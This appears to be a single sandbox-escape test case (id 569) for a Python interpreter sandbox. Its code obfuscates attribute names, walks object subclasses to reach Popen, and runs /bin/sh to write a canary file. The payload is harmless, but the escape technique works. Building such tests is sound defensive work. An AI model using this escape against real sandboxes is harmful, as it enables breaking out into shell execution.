# id: 569
# name: sorted_key_is_a_way_in
# category: interpreter
# technique: getattr as key=, as initializer, as default factory
# breach: file
# looks_like: CANARY_FILE is created
# baseline: inproc
import collections
d = collections.defaultdict(lambda: 0)
for name in sorted(['__class__'], key=lambda n: str(getattr((), n))):
    o = max([()], key=lambda x: 0)
g = getattr
c = g(g((), '__cl' + 'ass__'), '__ba' + 'se__')
for s in g(c, '__subcl' + 'asses__')():
    if s.__name__ == 'Popen':
        s(['/bin/sh', '-c', 'echo breach > ' + CANARY_FILE]).wait()
